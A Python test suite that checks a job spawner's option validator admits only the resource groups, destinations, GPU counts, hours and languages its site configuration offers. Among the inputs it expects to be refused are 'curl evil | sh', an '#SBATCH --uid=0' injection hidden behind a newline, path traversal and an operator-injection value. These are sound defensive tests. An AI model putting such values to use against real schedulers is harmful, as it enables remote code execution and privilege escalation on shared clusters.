"""What a person may ask for: everything that is not a choice of the site is refused, wherever it comes from."""

import math
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from enclave.messages import Reason
from spawner import options, site
from spawner.authority.protocol import Account
from spawner.capacity import overall
from spawner.schedulers.base import NodeStatus
from spawner.schedulers.watcher import Overview

DEMO = site.load(Path(__file__).parents[2] / "sites" / "demo.toml")
CLOUD = Account(destination="cloud", account="jrs0017", folder="people/jrs0017")
KASHIWA = Account(destination="kashiwa", account="kt001", folder="people/kt001")
GOOD = {"resource_group": "ct-link", "destination": "kashiwa", "gpus": 2, "hours": 4, "language": "en"}


def refused(wish, accounts=(CLOUD, KASHIWA)) -> Reason:
    with pytest.raises(options.OptionsError) as caught:
        options.check(wish, DEMO, accounts)
    return caught.value.reason


def test_a_choice_of_the_form_becomes_a_request():
    form = {name: [str(value)] for name, value in GOOD.items()}

    request = options.check(options.from_form(form), DEMO, (CLOUD, KASHIWA))

    assert request == options.Request(resource_group="ct-link", destination="kashiwa", gpus=2, hours=4.0, language="en")


def test_no_options_are_the_first_choice_that_works_for_this_person():
    assert options.check({}, DEMO, (KASHIWA,)) == options.Request(
        resource_group="ct-link", destination="kashiwa", gpus=1, hours=1.0, language="ja"
    )


@pytest.mark.parametrize(
    "more",
    [
        {"prologue": "curl evil | sh"},
        {"cmd": ["sh"]},
        {"req_partition": "other"},
        {"job_id": "1"},
        {"gpus": "2"},
        {"gpus": True},
        {"gpus": 3},
        {"gpus": -1},
        {"gpus": 10**30},
        {"gpus": [2]},
        {"hours": "4"},
        {"hours": 3},
        {"hours": math.nan},
        {"hours": math.inf},
        {"hours": None, "destination": {"$ne": 1}},
        {"resource_group": "no-such"},
        {"resource_group": "ct-link\n#SBATCH --uid=0"},
        {"resource_group": "x" * 100_000},
        {"destination": "../cloud"},
        {"destination": b"cloud"},
        {"language": "de"},
        {"language": "ja\nja"},
    ],
)
def test_anything_else_is_refused_with_a_reason(more):
    assert refused({**GOOD, **more}) is Reason.BAD_OPTIONS


@pytest.mark.parametrize("wish", [None, [], "ct-link", 5, [["gpus", 1]], b"{}"])
def test_options_are_a_mapping(wish):
    assert refused(wish) is Reason.BAD_OPTIONS


def test_another_persons_destination_is_not_reached_by_naming_it():
    assert refused({"destination": "kashiwa"}, (CLOUD,)) is Reason.NO_CLOUD_ACCOUNT


def test_nobody_without_an_account_gets_a_session():
    assert refused({}, ()) is Reason.NO_CLOUD_ACCOUNT
    assert refused(GOOD, (Account(destination="elsewhere", account="x", folder="x"),)) is Reason.NO_CLOUD_ACCOUNT


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.binary(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=20), inner, max_size=4),
    max_leaves=8,
)
_wishes = st.dictionaries(st.sampled_from([*options.FIELDS, "prologue", "gpu"]), _json | st.sampled_from(list(GOOD.values())))


@given(_wishes | _json)
def test_whatever_arrives_is_a_choice_of_the_site_or_a_complaint(wish):
    try:
        request = options.check(wish, DEMO, (CLOUD, KASHIWA))
    except options.OptionsError:
        return
    group = DEMO.group(request.resource_group)
    assert group is not None
    assert request.destination in group.destinations
    assert request.gpus in group.gpus
    assert request.hours in group.hours
    assert request.language in {"ja", "en"}


@given(st.dictionaries(st.text(max_size=12) | st.sampled_from(options.FIELDS), st.lists(st.text() | st.binary(), max_size=3)))
def test_a_form_never_gives_more_than_the_five_fields(form):
    assert set(options.from_form(form)) <= set(options.FIELDS)


@pytest.mark.parametrize(
    ("text", "number"),
    [("2", 2), ("0.5", 0.5), ("-1", "-1"), ("1e3", "1e3"), ("٣", "٣"), ("1" * 9, "1" * 9), ("nan", "nan"), ("1.", "1.")],
)
def test_numbers_of_a_form_are_read_only_where_they_are_plain(text, number):
    assert options.from_form({"hours": [text]}) == {"hours": number}


def test_the_form_offers_only_what_can_work():
    assert [choice.destinations for choice in options.choices(DEMO, (CLOUD, KASHIWA))] == [("cloud", "kashiwa")]
    assert [choice.destinations for choice in options.choices(DEMO, (KASHIWA,))] == [("kashiwa",)]
    assert options.choices(DEMO, ()) == ()


@pytest.mark.parametrize(("wish", "language"), [({"language": "en"}, "en"), ({"language": ["en"]}, "ja"), (None, "ja"), ([], "ja")])
def test_the_language_is_found_even_in_options_that_are_refused(wish, language):
    assert options.language_of(wish, "ja") == language


def test_what_no_node_could_serve_is_no_choice_either():
    node = NodeStatus(node="cx01", partition="ct-link", up=True, cpus=16, gres={"gpu": 2}, limit_s=2 * 3600.0)
    free = overall(DEMO.resource_group, Overview(nodes=(node,), queue={}, at=0.0), 0.0)

    assert options.check({"gpus": 2, "hours": 2}, DEMO, (CLOUD,), free).gpus == 2
    for wish in ({"gpus": 4}, {"hours": 4}):
        with pytest.raises(options.OptionsError) as caught:
            options.check(wish, DEMO, (CLOUD,), free)
        assert caught.value.reason is Reason.BAD_OPTIONS


REQUEST = options.Request(resource_group="ct-link", destination="cloud", gpus=2, hours=4.0, language="ja")


@pytest.mark.parametrize("wish", [{}, {"language": "en"}, {"gpus": 2}, {"resource_group": "ct-link", "hours": 4}])
def test_what_a_wish_leaves_out_is_as_in_any_request(wish):
    assert options.ask_for(wish, REQUEST)


@pytest.mark.parametrize("wish", [{"gpus": 1}, {"hours": 1}, {"destination": "kashiwa"}, {"x": 1}, {"gpus": "2"}, None, "x"])
def test_another_wish_or_none_at_all_does_not_ask_for_a_request(wish):
    assert not options.ask_for(wish, REQUEST)
